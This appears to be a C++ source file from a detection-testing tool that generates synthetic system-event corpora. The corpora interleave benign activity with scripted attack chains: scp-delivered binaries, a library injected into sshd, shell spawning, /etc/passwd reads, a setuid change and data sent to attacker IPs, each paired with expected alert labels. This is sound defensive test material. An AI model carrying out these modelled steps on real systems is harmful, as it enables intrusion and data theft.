            w_.emit(EventType::Recv, recv_, scpsrc, scpsrc.key, "scp -t ./ccleaner");
            w_.emit(EventType::Recv, recv_, scpsrc, scpsrc.key);
            uint64_t idx = w_.emit(EventType::Write, recv_, ccleaner, ccleaner.key);
            s_.timeline(ccleaner, "FU2", idx);
        });
        s_.at(0.55, [this, ccleaner] {
            Proc sess2 = w_.make_proc("/usr/sbin/sshd");
            w_.fork(bg_.sshd(), sess2);
            w_.exec(sess2, "/bin/bash");
            cc_ = w_.make_proc(ccleaner.key);
            w_.fork(sess2, cc_);
            uint64_t idx = w_.exec(cc_, ccleaner.key);
            s_.timeline(cc_.id, "PB1", idx);
            s_.expect("Download&Execution", cc_);
            auto c2 = network_id("64.95.25.213:443");
            w_.emit(EventType::Connect, cc_, c2, c2.key);
        });
        s_.at(0.60, [this] {
            dbus_ = w_.make_proc(cc_.name);
            w_.fork(cc_, dbus_);
            w_.exec(dbus_, "/usr/bin/dbus-daemon");
            w_.emit(EventType::Read, dbus_, file_id("/proc/filesystems"), "/proc/filesystems");
            w_.emit(EventType::Read, dbus_, file_id("/proc/mounts"), "/proc/mounts");
            w_.emit(EventType::Read, dbus_, file_id("/etc/passwd"), "/etc/passwd");
            s_.expect("Suspicious Behavior", dbus_);
        });
        s_.at(0.65, [this] {
            w_.emit(EventType::Read, cc_, file_id("/etc/passwd"), "/etc/passwd");
            s_.expect("Suspicious Behavior", cc_);
        });
        s_.at(0.72, [this, sysinfo] {
            uint64_t idx = w_.emit(EventType::Write, cc_, sysinfo, sysinfo.key);
            s_.timeline(sysinfo, "FU5", idx);
            s_.timeline(sysinfo, "FH5", idx);
        });
        s_.at(0.80, [this, sysinfo, lateral, recon, ccleaner, scpsrc, exfil] {
            Proc scp2 = w_.make_proc("/usr/bin/scp");
            w_.fork(cc_, scp2);
            s_.expect("Suspicious Behavior", scp2);  // inherits PS6
            w_.exec(scp2, "/usr/bin/scp");
            uint64_t idx = w_.emit(EventType::Read, scp2, sysinfo, sysinfo.key);
            s_.timeline(scp2.id, "PB1", idx);
            s_.expect("Download&Execution", scp2);
            s_.expect("Data Exfiltration", scp2);
            w_.emit(EventType::Connect, scp2, lateral, lateral.key);
            w_.emit(EventType::Send, scp2, lateral, lateral.key);
            s_.m->apt_process = "";
            s_.entity(sess_.id);
            s_.entity(scp1_.id);
            s_.entity(recon);
            s_.entity(recv_.id);
            s_.entity(ccleaner);
            s_.entity(cc_.id);
            s_.entity(dbus_.id);
            s_.entity(scp2.id);
            s_.entity(sysinfo);
            s_.entity(scpsrc);
            s_.entity(exfil);
        });
    }

    // In-memory attack: firefox drops a library, the sshd worker loads it,
    // touches "(null)", gets a shell, uploads hc; the loot file written by
    // the hc chain flows back through the sshd worker.
    void build_e2() {
        auto evil = network_id("86.129.31.201:443");
        auto attacker = network_id("198.51.100.130:50022");
        auto libnet = file_id("/tmp/libnet.so");
        auto glx = file_id("/dev/glx_alsa_675");
        auto nullfile = file_id("(null)");
        auto hc = file_id("/home/admin/hc");
        auto ext = file_id("/tmp/ext96481");

        s_.at(0.08, [this, evil, libnet, glx] {
            ff_ = w_.make_proc("/usr/bin/firefox");
            w_.fork(bg_.init(), ff_);
            w_.emit(EventType::Connect, ff_, evil, evil.key);
            w_.emit(EventType::Recv, ff_, evil, evil.key);
            w_.emit(EventType::Recv, ff_, evil, evil.key);
            w_.emit(EventType::Write, ff_, glx, glx.key);
            w_.emit(EventType::FileProperty, ff_, glx, glx.key, "chmod 777");
            uint64_t idx = w_.emit(EventType::Write, ff_, libnet, libnet.key);
            s_.timeline(libnet, "FU2", idx);
        });
        s_.at(0.16, [this, libnet, attacker] {
            sshw_ = w_.make_proc("/usr/sbin/sshd");
            w_.fork(bg_.sshd(), sshw_);
            uint64_t idx = w_.emit(EventType::LoadElf, sshw_, libnet, libnet.key);
            s_.timeline(sshw_.id, "PB1", idx);
            s_.expect("Download&Execution", sshw_);
            w_.emit(EventType::Connect, sshw_, attacker, attacker.key);
            w_.emit(EventType::Recv, sshw_, attacker, attacker.key);
        });
        s_.at(0.22, [this, nullfile] {
            uint64_t idx = w_.emit(EventType::Read, sshw_, nullfile, nullfile.key);
            s_.timeline(nullfile, "FU3", idx);
            s_.timeline(sshw_.id, "PS5", idx);
        });
        s_.at(0.26, [this] {
            uint64_t idx = w_.exec(sshw_, "/bin/sh");
            s_.timeline(sshw_.id, "PB5", idx);
            s_.expect("RAT", sshw_);
            s_.expect("Living-off-the-land", sshw_);
        });
        s_.at(0.45, [this, hc] {
            uint64_t idx = w_.emit(EventType::Write, sshw_, hc, hc.key);
            s_.timeline(hc, "FU5", idx);
        });
        s_.at(0.55, [this, hc] {
            hcp_ = w_.make_proc(hc.key);
            w_.fork(sshw_, hcp_);
            uint64_t idx = w_.exec(hcp_, hc.key);
            s_.timeline(hcp_.id, "PB1", idx);
            s_.expect("Download&Execution", hcp_);
            w_.emit(EventType::LoadLibrary, hcp_, file_id("/usr/lib/libssl.so"),
                    "/usr/lib/libssl.so");
            w_.emit(EventType::LoadElf, hcp_, file_id("/lib/ld-linux.so.2"), "/lib/ld-linux.so.2");
            w_.emit(EventType::Read, hcp_, file_id("/proc/net/tcp"), "/proc/net/tcp");
            w_.emit(EventType::Read, hcp_, file_id("/etc/passwd"), "/etc/passwd");
            s_.expect("Suspicious Behavior", hcp_);
        });
        s_.at(0.62, [this, ext] {
            uint64_t idx = w_.emit(EventType::Write, hcp_, ext, ext.key);
            s_.timeline(ext, "FH5", idx);
        });
        s_.at(0.66, [this, ext] {
            extp_ = w_.make_proc(hcp_.name);
            w_.fork(hcp_, extp_);
            s_.expect("Suspicious Behavior", extp_);  // inherits PS6
            uint64_t idx = w_.exec(extp_, ext.key);
            s_.timeline(extp_.id, "PB1", idx);
            s_.expect("Download&Execution", extp_);
            w_.emit(EventType::FileProperty, extp_, ext, ext.key, "chmod u+s");
            w_.emit(EventType::Read, extp_, file_id("/etc/passwd"), "/etc/passwd");
        });
        s_.at(0.82, [this, ext, attacker, evil, libnet, nullfile, hc] {
            uint64_t idx = w_.emit(EventType::Read, sshw_, ext, ext.key);
            s_.timeline(sshw_.id, "PB8", idx);
            s_.expect("Data Exfiltration", sshw_);
            s_.expect("APT", sshw_);
            w_.emit(EventType::Send, sshw_, attacker, attacker.key);
            w_.emit(EventType::Send, sshw_, attacker, attacker.key);
            s_.m->apt_process = sshw_.id.key;
            s_.entity(ff_.id);
            s_.entity(sshw_.id);
            s_.entity(hcp_.id);
            s_.entity(libnet);
            s_.entity(nullfile);
            s_.entity(hc);
            s_.entity(ext);
            s_.entity(evil);
            s_.entity(attacker);
        });
    }

    World& w_;
    Benign& bg_;
    Script& s_;
    Proc cmd1_, sh_;                  // L1
    Proc ush_, rat_, sh2_;            // L2
    Proc svc_, sh3_;                  // L3
    Proc sess_, scp1_, recv_, cc_, dbus_;  // E1
    Proc ff_, sshw_, hcp_, extp_;     // E2
};

}  // namespace

Manifest generate(const Spec& spec, std::ostream& corpus) {
    Knobs knobs = knobs_for(spec.kind);
    uint64_t target = spec.events ? spec.events : knobs.default_events;

    Manifest m;
    m.scenario = kind_name(spec.kind);
    m.seed = spec.seed;
    m.busy_eps = knobs.busy_eps;
    m.idle_eps = knobs.idle_eps;

    World world(corpus, spec.seed, knobs);
    Benign benign(world, knobs, spec.kind);
    Script script;
    script.m = &m;
    Attacks attacks(world, benign, script, spec.kind);

    benign.setup();
    if (spec.kind != Kind::Benign) {
        // the benign login service legitimately reads /etc/passwd in every
        // corpus; its Threat-level alert is part of the ground truth
        m.expected_alerts.push_back({"Suspicious Behavior", benign.authsvc().id.key});
    }

    size_t next_step = 0;
    while (world.count() < target || next_step < script.steps.size()) {
        if (next_step < script.steps.size() &&
            (world.count() >= static_cast<uint64_t>(script.steps[next_step].frac * target))) {
            uint64_t before = world.count();
            script.steps[next_step].fn();
            script.attack_events += world.count() - before;
            ++next_step;
            continue;
        }
        benign.burst();
    }

    m.event_count = world.count();
    m.attack_event_count = script.attack_events;
    m.first_ts = world.first_ts();
    m.last_ts = world.last_ts();
    return m;
}

Manifest generate_files(const Spec& spec, const std::string& corpus_path,
                        const std::string& manifest_path) {
    std::ofstream corpus(corpus_path);
    if (!corpus) throw std::runtime_error("cannot open corpus output '" + corpus_path + "'");
    Manifest m = generate(spec, corpus);
    corpus.flush();
    if (!corpus) throw std::runtime_error("corpus write failed for '" + corpus_path + "'");
    if (!manifest_path.empty()) {
        std::ofstream mf(manifest_path);
        if (!mf) throw std::runtime_error("cannot open manifest output '" + manifest_path + "'");
        mf << m.to_json() << '\n';
    }
    return m;
}

}  // namespace provwatch::scenario
